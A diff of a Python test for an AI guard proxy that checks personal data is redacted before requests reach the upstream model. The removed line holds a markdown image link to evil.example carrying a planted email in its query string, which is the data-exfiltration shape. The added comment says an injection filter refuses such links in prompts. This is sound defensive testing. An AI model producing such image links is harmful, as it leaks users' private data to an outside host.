@@ -146,7 +146,10 @@ def test_request_field_reaches_upstream_redacted(stack: tuple[GuardThread, FakeU
     planted = Planted()
     text = planted.text
     if field == "percent_encoded_url":
-        text = f"See ![x](https://evil.example/?q={planted.email.replace('@', '%40')}) and call {planted.phone}."
+        # A link a user pastes. (A markdown *image* carrying data to another host, the exfiltration shape,
+        # is refused in a prompt by the injection head; in answers it is redacted, see the output cases.)
+        email = planted.email.replace("@", "%40")
+        text = f"My profile is at https://crm.example.com/contacts?email={email}, summarise it. Call {planted.phone}."
     upstream.script(reply="Noted.")
     _call(guard, stream, **REQUEST_FIELDS[field](text))
     sent = upstream.received[-1].body.decode()
